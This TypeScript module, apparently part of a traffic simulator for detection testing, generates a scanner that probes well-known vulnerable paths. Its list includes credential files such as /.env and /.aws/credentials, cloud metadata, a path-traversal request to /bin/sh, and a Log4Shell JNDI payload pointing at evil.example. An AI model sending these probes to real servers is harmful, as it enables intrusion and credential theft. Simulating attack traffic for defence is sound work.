import { pick, sample } from "../../chance/draw.ts";
import type { TrafficEntry } from "../../traffic/scenario.ts";
import type { AccessAttack } from "../request.ts";
import { ask, everySeconds, secondMs } from "../request.ts";
import { leakedPath } from "../site.ts";
import { scannerAgents } from "./probes.ts";

/** One address tries holes of well-known programs, one every `everySeconds`, and reads a file that should be hidden. */
export interface KnownHoles extends TrafficEntry {
  readonly kind: "known-holes";
  readonly everySeconds: number;
}

const holes = [
  "/.env",
  "/.aws/credentials",
  "/.svn/entries",
  "/actuator/env",
  "/actuator/heapdump",
  "/server-status",
  "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
  "/api/v1/pods",
  "/v2/_catalog",
  "/_cat/shards",
  "/?x=$%7Bjndi:ldap://evil.example/a%7D",
  "/index.action?redirect:http://evil.example/",
  "/owa/auth/logon.aspx",
  "/telescope/requests",
  "/debug/pprof/",
  "/latest/meta-data/",
] as const;

export const knownHoles: AccessAttack<KnownHoles> = {
  role: "attack",
  fields: { everySeconds },
  *visits(entry, { onsetMs, random, freshAddress }) {
    const sender = { ip: freshAddress(), userAgent: pick(random, scannerAgents) };
    const tried = [...sample(random, holes, holes.length), leakedPath];
    const acts = tried.map((url) => ask(sender, "GET", url));
    yield { offsetMs: onsetMs, gapMs: entry.everySeconds * secondMs, acts };
  },
};
